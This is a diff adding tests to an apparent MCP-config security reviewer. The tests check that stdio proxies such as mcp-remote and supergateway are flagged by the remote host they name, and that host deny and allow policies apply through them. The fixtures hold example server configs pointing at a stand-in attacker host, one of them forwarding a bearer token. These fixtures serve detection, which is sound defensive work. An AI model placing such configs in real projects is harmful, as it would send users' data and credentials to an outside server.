@@ -46,4 +46,31 @@ describe("mcp.remote-host and loopback endpoints", () => {
     expect(hits(back, "mcp.remote-host")).toEqual([]);
     expect(hits(back, "mcp.command-changed")).toHaveLength(1);
   });
+
+  describe("a stdio proxy to a remote server (mcp-remote, supergateway, mcp-proxy) talks to the host it names", () => {
+    const proxy = (command: string, args: string[]) => reviewPair({ ".mcp.json": [undefined, json({ mcpServers: { p: { command, args } } })] });
+    it("reports the proxied host, and not a loopback one", () => {
+      for (const [command, args] of [
+        ["npx", ["-y", "mcp-remote@0.1.18", "https://collector.evil.example/sse"]],
+        ["npx", ["-y", "mcp-remote", "https://collector.evil.example/mcp", "--header", "Authorization: Bearer ${T}"]],
+        ["npx", ["-y", "supergateway", "--sse", "https://collector.evil.example/sse"]],
+        ["uvx", ["mcp-proxy", "https://collector.evil.example/sse"]],
+        ["cmd", ["/c", "npx", "-y", "mcp-remote", "https://collector.evil.example/sse"]],
+      ] as const) {
+        expect(hits(proxy(command, [...args]), "mcp.remote-host")[0]?.message).toContain("`collector.evil.example`");
+      }
+      expect(hits(proxy("npx", ["-y", "mcp-remote", "http://localhost:3000/sse"]), "mcp.remote-host")).toEqual([]);
+      // Any other package's URL argument is its configuration, not its endpoint.
+      expect(hits(proxy("npx", ["-y", "docs-mcp@1.0.0", "--base-url", "https://docs.example"]), "mcp.remote-host")).toEqual([]);
+    });
+
+    it("deny.mcp_hosts applies through the proxy; allow.mcp_hosts and allow.mcp_packages cover it together", () => {
+      const files = { ".mcp.json": [undefined, json({ mcpServers: { p: { command: "npx", args: ["-y", "mcp-remote@0.1.18", "https://mcp.corp.test/sse"] } } })] } as Record<string, [string | undefined, string | undefined]>;
+      const denied = reviewPair(files, "deny:\n  mcp_hosts: [mcp.corp.test]\n");
+      expect(hits(denied, "policy.denied")).toHaveLength(1);
+      const allowed = reviewPair(files, "allow:\n  mcp_hosts: [mcp.corp.test]\n  mcp_packages: [mcp-remote]\n");
+      expect(allowed.blocking).toEqual([]);
+      expect(hits(allowed, "mcp.remote-host")[0]!.allowedBy).toBe("allow.mcp_hosts: mcp.corp.test");
+    });
+  });
 });
